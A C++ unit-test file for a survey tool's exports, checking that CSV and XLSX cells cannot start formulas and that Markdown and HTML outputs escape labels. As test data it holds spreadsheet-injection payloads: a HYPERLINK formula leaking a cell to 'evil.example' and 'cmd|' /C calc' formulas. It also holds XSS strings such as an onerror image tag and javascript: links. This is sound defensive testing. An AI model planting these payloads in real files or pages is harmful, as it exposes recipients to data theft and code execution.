// Exports that cannot carry code. A survey's labels come from its definition, its data
// and the people who edit a plan, and the exports are opened in Excel or rendered as
// Markdown and HTML by whoever receives them. So: no text cell of a CSV or XLSX export
// may start a formula (a leading apostrophe guards it; numbers stay numbers, a negative
// gap included), no label may become markup or a link in the Markdown plan or the HTML
// plan and report, and a wave label that breaks the rule is refused before the store
// holds anything.
#include <gtest/gtest.h>

#include <Poco/StreamCopier.h>
#include <Poco/Zip/ZipArchive.h>
#include <Poco/Zip/ZipStream.h>

#include <charconv>
#include <cmath>
#include <fstream>
#include <map>
#include <regex>
#include <set>
#include <sstream>

#include "action_plan/plan.hpp"
#include "action_plan/writers.hpp"
#include "analysis/findings_text.hpp"
#include "domain/wave_label.hpp"
#include "ingest/ingest.hpp"
#include "report/report.hpp"
#include "store/store.hpp"
#include "test_support.hpp"
#include "util/errors.hpp"
#include "util/spreadsheet_text.hpp"

namespace gapfinder {
namespace {

#define EXPECT_CONTAINS(haystack, needle) EXPECT_NE((haystack).find(needle), std::string::npos) << (haystack)
#define EXPECT_LACKS(haystack, needle) EXPECT_EQ((haystack).find(needle), std::string::npos) << (haystack)

// What an attacker would put in a label: a formula for each character that starts one.
const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for the figures\")";
const std::string kLead = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string kGroup = "+disabled";
const std::string kGroupLabel = "-2+3+cmd|' /C calc'!A0";
const std::string kWave = "-2024";  // a valid wave label, yet it starts with a hyphen

// The bundled panel's definition with a formula as the lead and objective of its
// Cohesion theme.
SurveyDefinition hostile_survey() {
    std::string json = test::read_file(std::string(SOURCE_DIR) + "/surveys/citizens-panel.json");
    auto replace_all = [&](const std::string& from, const std::string& to) {
        for (size_t at = json.find(from); at != std::string::npos; at = json.find(from, at + to.size())) json.replace(at, from.size(), to);
    };
    replace_all("\"lead\": \"Community and Environment\"", "\"lead\": \"@SUM(1+1)*cmd|' /C calc'!A0\"");
    replace_all("\"Promote diversity and community cohesion both within the council and the borough\"",
                R"json("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for the figures\")")json");
    return SurveyDefinition::parse(json, "hostile-panel.json");
}

GroupResult group(const std::string& q, const std::string& c, const std::string& g, const std::string& label, double x,
                  double n, double xr, double nr, bool flagged) {
    GroupResult r;
    r.question = q, r.characteristic = c, r.group = g, r.group_label = label;
    r.n = n, r.positives = x, r.rate = x / n, r.rest_n = nr, r.rest_positives = xr, r.rest_rate = xr / nr;
    r.gap_pp = std::round(10000 * (r.rate - r.rest_rate)) / 100;  // -40, not -40.000000000000007
    r.test = "z", r.p = r.p_adj = flagged ? 1e-6 : 0.5;
    r.flagged = flagged;
    return r;
}

// Findings whose wave and groups carry formulas; the first row is a gap of -40 points.
Findings hostile_findings() {
    Findings f;
    f.survey_id = "citizens-panel", f.survey_title = "Citizens' Panel", f.wave = kWave;
    f.results = {group("cohesion", "disability", kGroup, kGroupLabel, 400, 1000, 800, 1000, true),
                 group("cohesion", "disability", "not_disabled", kHyperlink, 800, 1000, 400, 1000, true),
                 group("treated_fairly", "sex", "female", "@SUM(A1)", 450, 1000, 500, 1000, false)};
    return f;
}

plan::ActionPlan hostile_plan(const std::string& layout = "harrow") {
    plan::BuildOptions options;
    options.layout = layout;
    return plan::build_plan(hostile_findings(), hostile_survey(), options);
}

std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false, started = false;
    size_t i = text.rfind("\xEF\xBB\xBF", 0) == 0 ? 3 : 0;
    for (; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += '"', ++i;
            else if (c == '"') quoted = false;
            else cell += c;
        } else if (c == '"' && !started) {
            quoted = started = true;
        } else if (c == ',') {
            rows.back().push_back(cell), cell.clear(), started = false;
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.back().push_back(cell), cell.clear(), started = false;
            rows.emplace_back();
            ++i;
        } else {
            cell += c, started = true;
        }
    }
    if (started || !rows.back().empty()) rows.back().push_back(cell);
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

bool starts_formula(const std::string& s) {
    return !s.empty() && (s[0] == '=' || s[0] == '+' || s[0] == '-' || s[0] == '@' || s[0] == '\t' || s[0] == '\r');
}

bool is_number(const std::string& s) {
    double v = 0;
    const auto [end, ec] = std::from_chars(s.data(), s.data() + s.size(), v);
    return !s.empty() && ec == std::errc() && end == s.data() + s.size();
}

// Each row of a CSV with a header row, as heading -> cell.
std::vector<std::map<std::string, std::string>> csv_records(const std::string& text) {
    const auto rows = parse_csv(text);
    std::vector<std::map<std::string, std::string>> out;
    for (size_t r = 1; r < rows.size(); ++r) {
        std::map<std::string, std::string> record;
        for (size_t c = 0; c < rows[r].size() && c < rows[0].size(); ++c) record[rows[0][c]] = rows[r][c];
        out.push_back(std::move(record));
    }
    return out;
}

// Every part of a zip (a workbook), by name.
std::map<std::string, std::string> unzip(const std::string& path) {
    std::map<std::string, std::string> parts;
    std::ifstream in(path, std::ios::binary);
    Poco::Zip::ZipArchive archive(in);
    for (auto it = archive.headerBegin(); it != archive.headerEnd(); ++it) {
        if (it->second.isDirectory()) continue;
        std::ifstream again(path, std::ios::binary);
        Poco::Zip::ZipInputStream zin(again, it->second);
        Poco::StreamCopier::copyToString(zin, parts[it->first]);
    }
    return parts;
}

// The text of each <si> of xl/sharedStrings.xml, with the five XML entities decoded.
std::vector<std::string> shared_strings(const std::string& xml) {
    std::vector<std::string> out;
    const std::regex item("<si>(.*?)</si>");
    const std::regex run("<t(?: [^>]*)?>([^<]*)</t>");
    for (auto it = std::sregex_iterator(xml.begin(), xml.end(), item); it != std::sregex_iterator(); ++it) {
        std::string text;
        const std::string si = (*it)[1];
        for (auto t = std::sregex_iterator(si.begin(), si.end(), run); t != std::sregex_iterator(); ++t) text += (*t)[1];
        for (const auto& [entity, c] : std::vector<std::pair<std::string, std::string>>{
                 {"&lt;", "<"}, {"&gt;", ">"}, {"&quot;", "\""}, {"&apos;", "'"}, {"&amp;", "&"}})
            for (size_t at = text.find(entity); at != std::string::npos; at = text.find(entity, at + c.size()))
                text.replace(at, entity.size(), c);
        out.push_back(text);
    }
    return out;
}

TEST(ExportInjection, PlanCsvGuardsEveryTextCellThatCouldStartAFormulaButNotNumbers) {
    for (const std::string layout : {"harrow", "eflg", "simple"}) {
        SCOPED_TRACE(layout);
        const plan::ActionPlan p = hostile_plan(layout);
        ASSERT_EQ(p.rows.size(), 1u);  // the disabled group's gap
        std::ostringstream out;
        plan::write_plan_csv(p, out);
        const auto records = csv_records(out.str());
        ASSERT_EQ(records.size(), 1u) << out.str();
        const auto& row = records[0];
        EXPECT_EQ(row.at("group"), "'" + kGroup);
        EXPECT_EQ(row.at("baseline_wave"), "'" + kWave);
        EXPECT_EQ(row.at(layout == "eflg" ? "Responsible Officer" : layout == "harrow" ? "Directorate / Lead" : "Lead"), "'" + kLead);
        if (layout != "eflg") {
            EXPECT_EQ(row.at("Objective"), "'" + kHyperlink);
        }
        // Numbers written as numbers are left alone: the gap is -40 points, not '-40.
        EXPECT_EQ(row.at("baseline_gap_pp"), "-40");
        EXPECT_EQ(row.at("baseline_n"), "1000");
        for (const auto& [heading, text] : row) {
            if (!starts_formula(text)) continue;
            EXPECT_TRUE(is_number(text) && heading.rfind("baseline_", 0) == 0 && heading != "baseline_wave")
                << "column \"" << heading << "\" starts a formula: " << text;
        }
    }
}

TEST(ExportInjection, PlanWorkbookGuardsEveryStringCellKeepsNumbersAndReadsBackAsWritten) {
    test::TempDir dir;
    const std::string path = dir.file("plan.xlsx");
    plan::write_plan_xlsx(hostile_plan(), path);
    const auto parts = unzip(path);
    ASSERT_TRUE(parts.count("xl/sharedStrings.xml"));
    const auto strings = shared_strings(parts.at("xl/sharedStrings.xml"));
    ASSERT_GT(strings.size(), 20u);
    std::set<std::string> have(strings.begin(), strings.end());
    // On the plan sheet, the findings sheet and the settings sheet alike.
    for (const std::string& guarded : {kHyperlink, kLead, kGroup, kWave, kGroupLabel, std::string("@SUM(A1)")})
        EXPECT_TRUE(have.count("'" + guarded)) << "no string \"'" << guarded << "\" in the workbook";
    for (const auto& s : strings) EXPECT_FALSE(starts_formula(s)) << "a string cell starts a formula: " << s;
    // The gap is a number cell, -40 on the plan sheet and the findings sheet, not a string.
    for (const std::string sheet : {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}) {
        ASSERT_TRUE(parts.count(sheet));
        EXPECT_CONTAINS(parts.at(sheet), "<v>-40</v>");
    }
    EXPECT_FALSE(have.count("'-40"));
    EXPECT_FALSE(have.count("-40"));

    // gapfinder track reads the plan back as it was before the guard.
    PluginHost host;
    host.load_folder(GAPFINDER_PLUGIN_DIR);
    const plan::ActionPlan back = plan::read_plan(path, host);
    EXPECT_EQ(back.wave, kWave);
    ASSERT_EQ(back.rows.size(), 1u);
    EXPECT_EQ(back.rows[0].group, kGroup);
    EXPECT_EQ(back.rows[0].baseline_wave, kWave);
    EXPECT_EQ(back.rows[0].lead, kLead);
    EXPECT_EQ(back.rows[0].objective, kHyperlink);
    EXPECT_EQ(back.rows[0].baseline_gap_pp, -40);
}

TEST(ExportInjection, TheGuardIsExactlyUndoneOnReadingBack) {
    for (const std::string s : {"", "2025", "-2024", "=1+1", "'=1+1", "''=1+1", "'plain", "''", "@", "\tx", "+", "-10.5", "it's"}) {
        EXPECT_EQ(from_spreadsheet_text(spreadsheet_text(s)), s) << s;
        EXPECT_FALSE(starts_formula(spreadsheet_text(s))) << s;
    }
    EXPECT_EQ(spreadsheet_text("2025 spring"), "2025 spring");
    EXPECT_EQ(spreadsheet_text("=1+1"), "'=1+1");
    EXPECT_EQ(csv_text_field("=SUM(A1,B1)"), "\"'=SUM(A1,B1)\"");
}

TEST(ExportInjection, FindingsAndTrendCsvGuardTextButNotNumbers) {
    Findings f = hostile_findings();
    std::ostringstream out;
    write_findings_csv(f, out);
    const auto records = csv_records(out.str());
    ASSERT_EQ(records.size(), 3u) << out.str();
    EXPECT_EQ(records[0].at("group"), "'" + kGroup);
    EXPECT_EQ(records[0].at("group_label"), "'" + kGroupLabel);
    EXPECT_EQ(records[1].at("group_label"), "'" + kHyperlink);
    EXPECT_EQ(records[2].at("group_label"), "'@SUM(A1)");
    EXPECT_EQ(records[0].at("gap_pp"), "-40");  // a number: no apostrophe
    for (const auto& r : records)
        for (const auto& [heading, text] : r) {
            if (!starts_formula(text)) continue;
            EXPECT_TRUE(is_number(text)) << "column \"" << heading << "\" starts a formula: " << text;
        }

    TrendResult t;
    t.question = "cohesion", t.characteristic = "disability", t.group = kGroup, t.group_label = kGroupLabel;
    t.from_wave = "-2023", t.to_wave = kWave, t.from_gap_pp = -40, t.to_gap_pp = -10, t.change_pp = 30, t.status = "narrowed";
    f.trend = {t};
    std::ostringstream trend;
    write_trend_csv(f, trend);
    const auto trend_records = csv_records(trend.str());
    ASSERT_EQ(trend_records.size(), 1u);
    EXPECT_EQ(trend_records[0].at("from_wave"), "'-2023");
    EXPECT_EQ(trend_records[0].at("to_wave"), "'" + kWave);
    EXPECT_EQ(trend_records[0].at("group_label"), "'" + kGroupLabel);
    EXPECT_EQ(trend_records[0].at("from_gap_pp"), "-40");
}

// Labels a Markdown or HTML viewer would otherwise render as markup or as links.
const std::string kImage = "<img src=x onerror=alert(1)>";
const std::string kLink = "[the figures](javascript:alert(1)) ![x](http://evil.example/a.png)";
const std::string kEscapeTheEscape = "\\[y](javascript:alert(2))";

plan::ActionPlan markup_plan() {
    plan::ActionPlan p = hostile_plan("simple");
    p.survey_title = kImage;
    p.rows[0].objective = kImage + " | extra cell";
    p.rows[0].lead = kLink;
    p.rows[0].theme = kEscapeTheEscape;
    p.rows[0].action = "Fix & check <script>alert(1)</script>";
    return p;
}

// How many times c occurs in text other than escaped by a backslash (itself unescaped).
size_t unescaped(const std::string& text, char c) {
    size_t count = 0;
    for (size_t i = 0; i < text.size(); ++i) {
        size_t backslashes = 0;
        while (backslashes < i && text[i - 1 - backslashes] == '\\') ++backslashes;
        count += text[i] == c && backslashes % 2 == 0;
    }
    return count;
}

TEST(ExportInjection, MarkdownPlanCarriesNoRawHtmlNoLinkAndNoExtraTableCell) {
    std::ostringstream out;
    plan::write_plan_markdown(markup_plan(), out);
    const std::string md = out.str();
    EXPECT_LACKS(md, "<img");
    EXPECT_LACKS(md, "<script");
    // No bracket can open or close a link or an image.
    EXPECT_EQ(unescaped(md, '['), 0u) << md;
    EXPECT_EQ(unescaped(md, ']'), 0u) << md;
    EXPECT_CONTAINS(md, "&lt;img src=x onerror=alert(1)&gt;");
    EXPECT_CONTAINS(md, "Fix &amp; check");
    EXPECT_CONTAINS(md, "\\[the figures\\](javascript:alert(1))");
    EXPECT_CONTAINS(md, "\\\\\\[y\\](javascript:alert(2))");  // the label's backslash is escaped, then its bracket
    // Every line of a table has as many cell boundaries as its header.
    std::istringstream lines(md);
    size_t header_pipes = 0;
    for (std::string line; std::getline(lines, line);) {
        if (line.empty() || line[0] != '|') {
            header_pipes = 0;
            continue;
        }
        if (!header_pipes) header_pipes = unescaped(line, '|');
        EXPECT_EQ(unescaped(line, '|'), header_pipes) << line;
    }
}

// Already so before the change (exports/html/escape.hpp): kept so that it stays so.
TEST(ExportInjection, HtmlPlanAndReportEscapeEveryLabel) {
    std::ostringstream out;
    plan::write_plan_html(markup_plan(), out);
    EXPECT_LACKS(out.str(), "<img");
    EXPECT_LACKS(out.str(), "<script>alert");
    EXPECT_CONTAINS(out.str(), "&lt;img src=x onerror=alert(1)&gt;");

    Findings f = hostile_findings();
    f.survey_title = kImage;
    f.results[0].group_label = kImage;
    f.questions = {{"cohesion", kImage, "Cohesion"}, {"treated_fairly", "Treated fairly", "Fair treatment"}};
    report::ReportOptions options;
    options.characteristic_labels = {{"disability", kImage}, {"sex", "Sex"}};
    const std::string html = report::render_report(f, options);
    EXPECT_LACKS(html, "<img");
    EXPECT_CONTAINS(html, "&lt;img src=x onerror=alert(1)&gt;");
}

class WaveLabel : public ::testing::Test {
protected:
    void SetUp() override { host.load_folder(GAPFINDER_PLUGIN_DIR); }
    // The InputError's message of ingesting the small fixture into the wave; "" if stored.
    std::string ingest(const std::string& wave) {
        IngestRequest r;
        r.file = test::fixture("mini-good.csv");
        r.wave = wave;
        r.show_progress = false;
        try {
            ingest_file(host, survey, store, r);
        } catch (const InputError& e) {
            return e.what();
        }
        return "";
    }
    PluginHost host;
    test::TempDir dir;
    SurveyDefinition survey = SurveyDefinition::load(test::fixture("surveys/mini-panel.json"));
    Store store{dir.file("store.db")};
};

const std::string kRule = "use 1 to 40 letters, digits, spaces, dots, underscores or hyphens";

TEST_F(WaveLabel, AFormulaOrAnOverlongLabelIsRefusedAndNothingIsStored) {
    EXPECT_CONTAINS(ingest("=HYPERLINK(\"x\")"), "wave label \"=HYPERLINK(\"x\")\": " + kRule);
    const std::string too_long(41, 'a');
    EXPECT_CONTAINS(ingest(too_long), "wave label \"" + too_long + "\": " + kRule);
    for (const std::string bad : {"", " 2025", "2025 ", "2025/26", "../2024", "<b>2025</b>", "2025\n", "2025\t", "@2025",
                                  "+2025", "2025,1", "caf\xC3\xA9"})
        EXPECT_CONTAINS(ingest(bad), kRule) << "\"" << bad << "\"";
    EXPECT_TRUE(store.waves().empty());
    EXPECT_TRUE(store.surveys().empty());
}

TEST_F(WaveLabel, TheStoreItselfRefusesTheLabelWhicheverRouteCallsIt) {
    IngestRecord meta;
    meta.file_name = "direct.csv";
    meta.content_hash = "0";
    Dataset empty;  // no respondents, but shaped as the survey, so that only the label is wrong
    empty.answers.resize(survey.questions.size());
    empty.groupings.resize(survey.groupings.size());
    try {
        store.add_ingest(survey, "=1+1", empty, meta, false);
        ADD_FAILURE() << "the store took a formula as a wave label";
    } catch (const InputError& e) {
        EXPECT_CONTAINS(std::string(e.what()), "wave label \"=1+1\": " + kRule);
    }
    EXPECT_TRUE(store.waves().empty());
    EXPECT_TRUE(store.surveys().empty());
}

TEST_F(WaveLabel, EveryLabelInUseStillFits) {
    for (const std::string& good : std::vector<std::string>{"2024", "2025", "2025 spring", "2025-10", "wave_1.b", "-1", std::string(40, 'w')})
        EXPECT_EQ(ingest(good), "") << "\"" << good << "\"";
    EXPECT_EQ(store.waves().size(), 7u);
}

TEST(WaveLabelCli, IngestRefusesAFormulaAsTheWaveWithExitCodeOne) {
    test::TempDir dir;
    const auto r = test::run_gapfinder({"ingest", test::fixture("mini-good.csv"), "--survey", "mini-panel", "--wave",
                                        "=HYPERLINK(\"x\")", "--surveys-dir", test::fixture_surveys(), "--db", "x.db"},
                                       dir.path().string());
    EXPECT_EQ(r.exit_code, 1) << r.err;
    EXPECT_CONTAINS(r.err, "wave label \"=HYPERLINK(\"x\")\": " + kRule);
    Store store(dir.file("x.db"));
    EXPECT_TRUE(store.waves().empty());
}

}  // namespace
}  // namespace gapfinder
